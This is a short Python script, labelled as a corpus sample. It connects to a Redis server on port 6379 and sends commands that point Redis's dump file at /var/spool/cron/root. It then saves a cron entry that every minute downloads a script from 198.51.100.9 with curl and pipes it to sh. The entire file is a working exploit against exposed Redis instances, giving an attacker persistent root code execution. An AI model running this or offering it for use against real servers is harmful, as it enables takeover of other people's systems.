# corpus: raw socket to 127.0.0.1:6379 sending Redis commands that write a cron job
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("127.0.0.1", 6379))
for cmd in (b"CONFIG SET dir /var/spool/cron/\r\n",
            b"CONFIG SET dbfilename root\r\n",
            b"SET x \"\\n* * * * * curl -s http://198.51.100.9/c|sh\\n\"\r\n",
            b"SAVE\r\n"):
    s.sendall(cmd)
    print(s.recv(128))
s.close()
